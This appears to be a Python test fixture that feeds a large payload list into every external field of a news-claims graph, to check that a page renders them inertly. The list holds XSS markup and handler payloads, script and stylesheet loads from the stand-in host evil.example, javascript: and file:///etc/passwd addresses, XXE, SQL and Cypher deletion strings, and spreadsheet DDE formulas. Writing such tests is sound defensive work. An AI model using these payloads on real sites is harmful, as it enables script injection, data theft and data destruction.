"""Text that attacks a page: markup, scripts, addresses, templates, formulas, tricks with characters.

`selected_of` puts each into every field that comes from outside. Whatever runs would set `ran` on the window, or ask
`evil.example` for something.
"""

from __future__ import annotations

from graph import ontology
from graph.model import Article, Claim, Entity, Quantity
from graph.selection import Selected
from tests.graph.builders import gather_facts, make_article, make_claim

_RUN = "window.ran=1"

_MARKUP = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</ScRiPt ><sCrIpT>{_RUN}</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    f"<script type=module>{_RUN}</script>",
    '<script type=importmap>{"imports":{}}</script>',
    f"<!--<script>{_RUN}</script>-->",
    f"--><script>{_RUN}</script><!--",
    f"--!><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{_RUN}</script>",
    f"<![if IE]><script>{_RUN}</script><![endif]>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<<script>{_RUN}//<</script>",
    f'<script\x20type="text/javascript">{_RUN}</script>',
    f"<script>{_RUN}",
    f"<script x>{_RUN}</script x>",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{_RUN}",
    f"<a href=x>href</a><img src=x onerror={_RUN}>",
    f"href <img src=x onerror={_RUN}>",
    "<img src=https://evil.example/pixel.png>",
    "<img srcset=https://evil.example/pixel.png>",
    "<image src=https://evil.example/pixel.png>",
    "<svg><use href=https://evil.example/x.svg#x></use></svg>",
    "<svg><image href=https://evil.example/x.png></image></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text>x</text></a></svg>',
    f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
    f'<math><mi//xlink:href="javascript:{_RUN}">',
    f'<iframe src="javascript:{_RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "<iframe src=https://evil.example></iframe>",
    f'<object data="javascript:{_RUN}"></object>',
    "<embed src=https://evil.example/x.swf>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    '<div style="background:url(https://evil.example/x)">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example>",
    "<link rel=preload as=script href=https://evil.example/x.js>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button autofocus>",
    "<form id=payload><input name=textContent>",
    "<a id=canvas><a id=canvas name=network>",
    "<video poster=https://evil.example/x.png>",
    "<audio autoplay src=https://evil.example/x.mp3>",
    "<portal src=https://evil.example>",
    "<bgsound src=https://evil.example/x.mp3>",
    "<table background=https://evil.example/x.png>",
    '<svg></p><style><a id="</style><img src=x onerror=window.ran=1>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=window.ran=1>">',
    '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
    "<template><script>window.ran=1</script></template>",
    "<select><template><img src=x onerror=window.ran=1></template></select>",
)

_HANDLERS = tuple(
    f"<{tag} {event}={_RUN}>"
    for tag, event in (
        ("img src=x", "onerror"), ("IMG SRC=x", "oNeRrOr"), ("img/src=x", "/onerror"), ("img\nsrc=x", "\nonerror"),
        ("img\tsrc=x", "\tonerror"), ("image src=x", "onerror"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
        ("video><source", "onerror"), ("input type=image src=x", "onerror"), ("object data=x", "onerror"),
        ("link rel=stylesheet href=x", "onerror"), ("script src=x", "onerror"), ("iframe", "onload"),
        ("body", "onload"),
        ("body", "onhashchange"), ("body", "onbeforeprint"), ("svg", "onload"), ("svg><animate dur=1s", "onbegin"),
        ("svg><set attributeName=x dur=1s", "onend"), ("details open", "ontoggle"), ("marquee", "onstart"),
        ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
        ("x tabindex=1 autofocus", "onfocusin"), ("div", "onmouseover"), ("div", "onpointerenter"), ("div", "onclick"),
        ("div", "onwheel"), ("div style=animation:x", "onanimationstart"), ("button popovertarget=x", "onbeforetoggle"),
    )
)  # fmt: skip

_BREAKOUTS = tuple(
    f"{end}<img src=x onerror={_RUN}>"
    for end in (
        '">', "'>", '"/>', "`>", "</title>", "</textarea>", "</style>", "</svg>", "</math>", "</noscript>", "</select>",
        "</option>", "</xmp>", "</noembed>", "</iframe>", "</template>", "</mark></blockquote>", "</button>",
        "</td></tr>", "*/", "?>", "%>",
    )
)  # fmt: skip

_ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"javascript://news.example/%0a{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>",
    f"vbscript:{_RUN}",
    "view-source:https://evil.example",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example",
    "https:\\evil.example",
    "https://evil.example\\@news.example/",
    "http://[::1",
    "ftp://evil.example/x",
    f'https://news.example/" onclick="{_RUN}',
    f"https://news.example/' onmouseover='{_RUN}",
    f"https://news.example/><script>{_RUN}</script>",
    "https://user:password@evil.example/?<b>",
    "HTTPS://EVIL.EXAMPLE/%22onclick=",
    "https://ev\u0456l.example/a",
)

_CODE = (
    "{{ 7*7 }}{% for x in y %}",
    "{{ self.__init__.__globals__ }}",
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}`${window.ran=1}`",
    "#{window.ran=1}<%= window.ran=1 %>",
    f'";{_RUN};//',
    f"';{_RUN};//",
    f'\\";{_RUN};//\n{_RUN}',
    f"\u2028{_RUN}\u2029//",
    f"\\u0022;{_RUN};//",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    "then",
    "undefined",
    "null",
    "NaN",
    "'; DROP TABLE claims; --",
    "}) DETACH DELETE n //",
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    "&x;&nbsp;&unknown;",
    '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
)

_FORMULAS = (
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("https://evil.example","//a")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    '";=1+1',
    '\uff1dHYPERLINK("https://evil.example")',
    "a\r\n=1+1",
)

_CHARACTERS = (
    "\u202egnp.evil\u202c",
    "\u2066\u2067left and right\u2069",
    "\x00\x08\x0b\x0c\x1b[31m red",
    "\ufeff\ufffe\uffff",
    "\u200b\u200c\u200d\u2060",
    "\U000e0041\U000e0042 tags",
    "\ud800 half a character",
    "\udc00\ud83d turned round",
    "\U0001f469\u200d\U0001f680 \U0001f1fa\U0001f1f3",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 (Arabic) \u05e2\u05d1\u05e8\u05d9\u05ea",
    "Z\u0351\u0334a\u0336l\u0338g\u0335o\u0334" * 20,
    "a" * 4000,
    "b " * 2000,
    "\n" * 300 + "end",
    "\u4e00" * 300,
    "",
)

PAYLOADS = (*_MARKUP, *_HANDLERS, *_BREAKOUTS, *_ADDRESSES, *_CODE, *_FORMULAS, *_CHARACTERS)


def selected_of(payloads: tuple[str, ...] = PAYLOADS) -> Selected:
    """Return a selection in which each payload is a name, an alias, a title, a publisher, a link, a sentence, ..."""
    entities, articles, claims = [], [], []
    kinds = list(ontology.kinds())
    for number, payload in enumerate(payloads):
        articles.append(_article(number, payload))
        pair = [
            _entity(f"org:{number:03d}-{end}", payload, end, kinds[(2 * number + place) % len(kinds)])
            for place, end in enumerate("ab")
        ]
        entities += pair
        claims += _claims(number, articles[-1], payload, *pair)
    entities.append(Entity('org:"><script>window.ran=1</script>', "Group", "hostile id", minted=True))
    claims.append(_claims(0, articles[0], payloads[0], entities[0], entities[-1])[0])
    claims.sort(key=lambda claim: claim.id)
    articles.sort(key=lambda article: article.id)
    entities.sort(key=lambda entity: entity.id)
    return Selected(tuple(entities), tuple(articles), tuple(claims), tuple(gather_facts(claims, articles)))


def _entity(entity_id: str, payload: str, end: str, kind: str) -> Entity:
    return Entity(entity_id, kind, payload, (f"{payload} {end}",), payload, payload, payload, payload)


def _article(number: int, payload: str) -> Article:
    fields = dict.fromkeys(("title", "publisher", "agency", "published", "url", "source"), payload)
    # The id of an article is made of its text, where half a character cannot be.
    whole = "".join(character for character in payload if not "\ud800" <= character <= "\udfff")
    return make_article(f"{number}: {whole} ships arms.", **fields)


def _claims(number: int, article: Article, payload: str, one: Entity, other: Entity) -> list[Claim]:
    return [
        make_claim(
            article, subject=one.id, object=other.id, status=status, asserted_by=(other.id,), marks=((2, 9),),
            quantity=Quantity(3, "min", payload), when=payload, extractor=payload, version=payload, why=(payload,),
            item=list(ontology.items())[number % len(ontology.items())],
        )
        for status in ("affirmed", "denied")
    ]  # fmt: skip
